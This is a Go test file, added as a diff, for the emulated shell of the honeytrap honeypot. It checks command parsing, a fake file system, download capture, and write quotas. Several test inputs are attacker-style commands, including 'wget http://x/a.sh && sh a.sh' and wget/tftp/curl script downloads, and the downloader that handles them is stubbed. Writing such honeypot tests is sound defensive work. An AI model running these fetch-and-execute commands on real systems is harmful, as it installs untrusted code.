@@ -0,0 +1,249 @@
+// Copyright 2016-2019 DutchSec (https://dutchsec.com/)
+//
+// Licensed under the Apache License, Version 2.0 (the "License");
+// you may not use this file except in compliance with the License.
+// You may obtain a copy of the License at
+//
+// http://www.apache.org/licenses/LICENSE-2.0
+//
+// Unless required by applicable law or agreed to in writing, software
+// distributed under the License is distributed on an "AS IS" BASIS,
+// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+// See the License for the specific language governing permissions and
+// limitations under the License.
+package shell
+
+import (
+	"bytes"
+	"io"
+	"io/ioutil"
+	"os"
+	"reflect"
+	"strings"
+	"testing"
+
+	"github.com/honeytrap/honeytrap/services/filesystem"
+)
+
+func TestParse(t *testing.T) {
+	cases := []struct {
+		in   string
+		want [][]string
+	}{
+		{"ls -la", [][]string{{"ls", "-la"}}},
+		{"cd /tmp; wget http://x/a.sh && sh a.sh", [][]string{{"cd", "/tmp"}, {"wget", "http://x/a.sh"}, {"sh", "a.sh"}}},
+		{`echo "a b" 'c;d'`, [][]string{{"echo", "a b", "c;d"}}},
+		{"cat /proc/cpuinfo | grep name", [][]string{{"cat", "/proc/cpuinfo"}, {"grep", "name"}}},
+		{"/bin/busybox wget 2>/dev/null", [][]string{{"/bin/busybox", "wget"}}},
+	}
+
+	for _, c := range cases {
+		var got [][]string
+		for _, stmt := range parse(c.in) {
+			got = append(got, stmt.args)
+		}
+
+		if !reflect.DeepEqual(got, c.want) {
+			t.Errorf("parse(%q): got %q, want %q", c.in, got, c.want)
+		}
+	}
+}
+
+func TestRun(t *testing.T) {
+	cases := []struct {
+		in       string
+		want     string
+		emulated bool
+	}{
+		{"echo hello", "hello\n", true},
+		{"echo -e '\\x41\\x42'", "AB\n", true},
+		{"/bin/busybox ECCHI", "ECCHI: applet not found\n", true},
+		{"foo", "sh: foo: command not found\n", false},
+		{"foo || echo bar", "sh: foo: command not found\nbar\n", false},
+		{"echo a && echo b", "a\nb\n", true},
+		{"uname -m", "x86_64\n", true},
+	}
+
+	for _, c := range cases {
+		buf := &bytes.Buffer{}
+
+		sh := New(buf)
+		emulated := sh.Run(c.in)
+
+		if buf.String() != c.want {
+			t.Errorf("Run(%q): got %q, want %q", c.in, buf.String(), c.want)
+		}
+
+		if emulated != c.emulated {
+			t.Errorf("Run(%q): got emulated %t, want %t", c.in, emulated, c.emulated)
+		}
+	}
+}
+
+func TestFileSystem(t *testing.T) {
+	dir, err := ioutil.TempDir("", "shell")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	defer os.RemoveAll(dir)
+
+	if err := os.MkdirAll(dir+"/shell/root/tmp", 0755); err != nil {
+		t.Fatal(err)
+	}
+
+	fs, err := filesystem.New(dir, "shell", "root")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	buf := &bytes.Buffer{}
+
+	sh := New(buf, WithFileSystem(fs))
+	sh.Run("cd /tmp; echo test > a.txt; ls; cat a.txt; cat /tmp/../tmp/a.txt")
+
+	if want := "a.txt\ntest\ntest\n"; buf.String() != want {
+		t.Errorf("got %q, want %q", buf.String(), want)
+	}
+
+	buf.Reset()
+	sh.Run("cd /nonexistent; pwd")
+
+	if want := "sh: cd: can't cd to /nonexistent: No such file or directory\n/tmp\n"; buf.String() != want {
+		t.Errorf("got %q, want %q", buf.String(), want)
+	}
+}
+
+type testCommand struct{}
+
+func (testCommand) Run(sh *Shell, args []string) int {
+	sh.Printf("custom %s\n", args[1])
+	return 0
+}
+
+func TestCommand(t *testing.T) {
+	buf := &bytes.Buffer{}
+
+	sh := New(buf, WithCommand("custom", testCommand{}))
+	if !sh.Run("custom a; exit; echo b") {
+		t.Errorf("Expected custom command to be emulated")
+	}
+
+	if buf.String() != "custom a\n" {
+		t.Errorf("got %q", buf.String())
+	}
+
+	if !sh.Exited() {
+		t.Errorf("Expected shell to be exited")
+	}
+}
+
+func TestDownload(t *testing.T) {
+	dir, err := ioutil.TempDir("", "shell")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	defer os.RemoveAll(dir)
+
+	if err := os.MkdirAll(dir+"/shell/root/tmp", 0755); err != nil {
+		t.Fatal(err)
+	}
+
+	fs, err := filesystem.New(dir, "shell", "root")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	var urls []string
+
+	downloader := func(rawurl string) (io.ReadCloser, error) {
+		urls = append(urls, rawurl)
+		return ioutil.NopCloser(strings.NewReader("payload")), nil
+	}
+
+	buf := &bytes.Buffer{}
+
+	sh := New(buf, WithFileSystem(fs), WithDownloader(downloader))
+	sh.Run("cd /tmp; wget -q example.com/a.sh; tftp -g -r b.sh 10.0.0.1; curl http://example.com/c.sh")
+
+	if want := []string{"http://example.com/a.sh", "tftp://10.0.0.1/b.sh", "http://example.com/c.sh"}; !reflect.DeepEqual(urls, want) {
+		t.Errorf("got urls %q, want %q", urls, want)
+	}
+
+	if !strings.HasSuffix(buf.String(), "payload") {
+		t.Errorf("Expected curl to write the payload, got %q", buf.String())
+	}
+
+	for _, name := range []string{"a.sh", "b.sh"} {
+		if data, err := ioutil.ReadFile(fs.RealPath("/tmp/" + name)); err != nil {
+			t.Error(err)
+		} else if string(data) != "payload" {
+			t.Errorf("Unexpected content of %s: %q", name, data)
+		}
+	}
+}
+
+func TestWriteLimit(t *testing.T) {
+	dir, err := ioutil.TempDir("", "shell")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	defer os.RemoveAll(dir)
+
+	if err := os.MkdirAll(dir+"/shell/root", 0755); err != nil {
+		t.Fatal(err)
+	}
+
+	fs, err := filesystem.New(dir, "shell", "root")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	sh := New(ioutil.Discard, WithFileSystem(fs), WithWriteLimit(8))
+	sh.Run("echo 12345 > a; echo 12345 >> a; echo 12345 > b")
+
+	for name, want := range map[string]string{"a": "12345\n12", "b": ""} {
+		if data, err := ioutil.ReadFile(fs.RealPath(name)); err != nil {
+			t.Error(err)
+		} else if string(data) != want {
+			t.Errorf("%s: got %q, want %q", name, data, want)
+		}
+	}
+}
+
+func TestQuota(t *testing.T) {
+	dir, err := ioutil.TempDir("", "shell")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	defer os.RemoveAll(dir)
+
+	if err := os.MkdirAll(dir+"/shell/root", 0755); err != nil {
+		t.Fatal(err)
+	}
+
+	fs, err := filesystem.New(dir, "shell", "root")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	quota := NewQuota(10)
+
+	// the sessions share the quota of the filesystem
+	New(ioutil.Discard, WithFileSystem(fs), WithQuota(quota)).Run("echo 12345 > a")
+	New(ioutil.Discard, WithFileSystem(fs), WithQuota(quota)).Run("echo 12345 > b")
+
+	// negative limits don't allow writes
+	New(ioutil.Discard, WithFileSystem(fs), WithWriteLimit(-1)).Run("echo 12345 > c")
+
+	for name, want := range map[string]string{"a": "12345\n", "b": "1234", "c": ""} {
+		if data, err := ioutil.ReadFile(fs.RealPath(name)); err != nil {
+			t.Error(err)
+		} else if string(data) != want {
+			t.Errorf("%s: got %q, want %q", name, data, want)
+		}
+	}
+}